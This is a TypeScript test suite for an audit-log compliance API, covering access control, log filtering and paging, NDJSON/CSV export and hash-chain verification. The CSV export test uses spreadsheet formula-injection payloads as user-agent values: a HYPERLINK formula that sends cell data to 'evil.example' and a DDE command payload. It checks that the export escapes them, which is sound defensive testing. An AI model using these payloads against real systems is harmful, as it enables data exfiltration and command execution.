import { chainOf, type AuditRecord } from '@mindflow/core/audit';
import { waitFor } from '@mindflow/core/testing';
import { parse } from 'csv-parse/sync';
import t from 'tap';
import { queryServiceForTest, testWriters, type TestWriter } from '../testing.js';

// The compliance routes on the production path: the audit trail in MongoDB (FerretDB here).
const platform = await queryServiceForTest({ rateLimitPrefix: 'ratelimit:audit-test:', audit: 'mongodb' });
t.teardown(() => platform.close());

// Signed in before the writers write: their account's records are in the trail before the entries'.
const officer = await platform.staff(['user', 'compliance']);
const officerId = officer.id;
const officerToken = officer.token;
const asOfficer = (url: string) =>
  platform.app.inject({ method: 'GET', url, headers: { authorization: `Bearer ${officerToken}` } });
interface Page {
  items: (Omit<AuditRecord, 'timestamp'> & { timestamp: string })[];
  nextCursor: string | null;
}

const [ana, bob] = (await testWriters(platform.app, 2)) as [TestWriter, TestWriter];
for (const [index, writer] of [ana, bob].entries()) {
  await writer.write({ date: `2026-11-0${String(index + 1)}`, mood: 'happy' });
}
await waitFor(
  async () => {
    const found = await platform.audit.list({ action: 'ENTRY_CREATE' }, 10);
    return found.length === 2 ? true : undefined;
  },
  20_000,
  'the audit projection',
);
const today = chainOf(new Date());

t.test('CSV export: a value a spreadsheet would run as a formula is text; NDJSON keeps it exact', async (t) => {
  const [eve] = (await testWriters(platform.app, 1)) as [TestWriter];
  const agents = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", '\t-2+3'];
  for (const [index, agent] of agents.entries()) {
    await eve.command(
      'POST',
      '/v1/entries',
      { date: `2026-10-0${String(index + 1)}`, title: 'A day', content: 'words' },
      { 'user-agent': agent },
    );
  }
  const created = () => platform.audit.list({ userId: eve.id, action: 'ENTRY_CREATE' }, 10);
  await waitFor(async () => ((await created()).length === agents.length ? true : undefined), 20_000, 'the audit');
  const csv = await asOfficer(`/v1/audit/export?userId=${eve.id}&format=csv&action=ENTRY_CREATE`);
  const cells = parse<Record<string, string>>(csv.body, { columns: true }).map((row) => row.userAgent);
  t.same(cells.sort(), agents.map((agent) => `'${agent}`).sort(), 'each begins with a quote');
  const ndjson = await asOfficer(`/v1/audit/export?userId=${eve.id}&format=ndjson&action=ENTRY_CREATE`);
  const exact = ndjson.body
    .trim()
    .split('\n')
    .map((line) => (JSON.parse(line) as { userAgent: string }).userAgent);
  t.same(exact.sort(), [...agents].sort());
});

t.test('a plain user gets 403 on every compliance route, and nobody without a token gets in', async (t) => {
  for (const url of ['/v1/audit/logs', '/v1/audit/export', '/v1/audit/verify']) {
    const plain = await ana.get(url);
    t.equal(plain.statusCode, 403, url);
    t.equal(plain.json<{ error: { code: string } }>().error.code, 'FORBIDDEN');
    t.equal((await platform.app.inject({ method: 'GET', url })).statusCode, 401, url);
  }
  for (const url of ['/v1/audit/logs', '/v1/audit/export']) {
    t.equal((await ana.get(`${url}?userId=${bob.id}`)).statusCode, 403, 'not even for another user’s id');
  }
});

t.test('logs: filters by user, action and words, newest first, in keyset pages', async (t) => {
  const mine = (await asOfficer(`/v1/audit/logs?userId=${ana.id}`)).json<Page>();
  t.ok(mine.items.length >= 3, 'registration, login, entry and more');
  t.ok(mine.items.every((record) => record.userId === ana.id));
  t.same(
    mine.items.map((record) => record.timestamp),
    [...mine.items.map((record) => record.timestamp)].sort().reverse(),
    'newest first',
  );
  const created = (await asOfficer(`/v1/audit/logs?action=ENTRY_CREATE&userId=${bob.id}`)).json<Page>();
  t.match(created.items, [{ userId: bob.id, action: 'ENTRY_CREATE', metadata: { date: '2026-11-02', mood: 'happy' } }]);
  const words = (
    await asOfficer(`/v1/audit/logs?userId=${bob.id}&q=${encodeURIComponent('Entry CREATE happy')}`)
  ).json<Page>();
  t.same(
    words.items.map((record) => record.eventId),
    created.items.map((record) => record.eventId),
  );

  const seen: string[] = [];
  let url = `/v1/audit/logs?userId=${ana.id}&limit=2`;
  for (;;) {
    const page = (await asOfficer(url)).json<Page>();
    seen.push(...page.items.map((record) => record.eventId));
    if (page.nextCursor === null) break;
    url = `/v1/audit/logs?userId=${ana.id}&limit=2&cursor=${page.nextCursor}`;
  }
  t.same(
    seen,
    mine.items.map((record) => record.eventId),
    'pages of two: the same records, no repeats',
  );

  for (const [bad, status, code] of [
    ['?limit=0', 400, 'VALIDATION_FAILED'],
    ['?action=DANCE', 400, 'VALIDATION_FAILED'],
    ['?from=yesterday', 400, 'VALIDATION_FAILED'],
    ['?cursor=non%20sense', 400, 'VALIDATION_FAILED'],
    ['?cursor=nonsense', 422, 'VALIDATION_RULE'],
    ['?from=2026-11-02&to=2026-11-01', 422, 'VALIDATION_RULE'],
  ] as const) {
    const response = await asOfficer(`/v1/audit/logs${bad}`);
    t.equal(response.statusCode, status, bad);
    t.equal(response.json<{ error: { code: string } }>().error.code, code, bad);
  }
});

t.test('export: every record, oldest first, as NDJSON or CSV', async (t) => {
  const all = await platform.audit.list({ userId: ana.id }, 500);
  const ndjson = await asOfficer(`/v1/audit/export?userId=${ana.id}`);
  t.equal(ndjson.statusCode, 200);
  t.match(ndjson.headers['content-type'], /application\/x-ndjson/);
  const lines = ndjson.body
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as { eventId: string; hash: string });
  t.same(
    lines.map((line) => line.eventId),
    all.map((record) => record.eventId).reverse(),
  );
  t.same(
    lines.map((line) => line.hash),
    all.map((record) => record.hash).reverse(),
  );

  const csv = await asOfficer(`/v1/audit/export?userId=${ana.id}&format=csv`);
  t.match(csv.headers['content-type'], /text\/csv/);
  const rows = parse<Record<string, string>>(csv.body, { columns: true });
  t.equal(rows.length, all.length);
  t.match(rows[0], { eventId: lines[0]?.eventId, userId: ana.id, chain: today });
  const metadata = JSON.parse(rows.find((row) => row.action === 'ENTRY_CREATE')?.metadata ?? '{}') as object;
  t.match(metadata, {
    entryId: String(all.find((record) => record.action === 'ENTRY_CREATE')?.metadata.entryId),
    date: '2026-11-01',
    mood: 'happy',
    isPrivate: false,
    wordCount: Number,
  });
  t.same(Object.keys(metadata).sort(), ['date', 'entryId', 'isPrivate', 'mood', 'readingTime', 'wordCount'], 'no text');
});

t.test('verify: the chains of a range, and the first record not as written', async (t) => {
  const report = await asOfficer(`/v1/audit/verify?from=${today}&to=${today}`);
  t.equal(report.statusCode, 200);
  t.match(report.json(), { ok: true, chains: 1 });
  t.ok(report.json<{ checked: number }>().checked > 5);
  t.equal(
    (await asOfficer('/v1/audit/verify?from=2026-11-02&to=2026-11-01')).statusCode,
    422,
    'an end before its start',
  );
});

t.test('every compliance query and export is itself audited; refused ones are not', async (t) => {
  const before = await platform.audit.list({ userId: officerId }, 500);
  await asOfficer(`/v1/audit/logs?action=LOGIN`);
  await asOfficer(`/v1/audit/export?format=csv&userId=${bob.id}`);
  await asOfficer(`/v1/audit/verify`);
  await ana.get('/v1/audit/logs');
  const after = await platform.audit.list({ userId: officerId }, 500);
  t.equal(after.length, before.length + 3);
  t.match(after.slice(0, 3).reverse(), [
    {
      action: 'AUDIT_QUERY',
      actorRole: 'compliance',
      metadata: { route: '/v1/audit/logs', parameters: { action: 'LOGIN' } },
    },
    { action: 'AUDIT_EXPORT', metadata: { route: '/v1/audit/export', parameters: { format: 'csv', userId: bob.id } } },
    { action: 'AUDIT_QUERY', metadata: { route: '/v1/audit/verify', verify: true } },
  ]);
  t.same(
    await platform.audit.list({ userId: ana.id, action: 'AUDIT_QUERY' }, 10),
    [],
    'the refused query left nothing',
  );
});
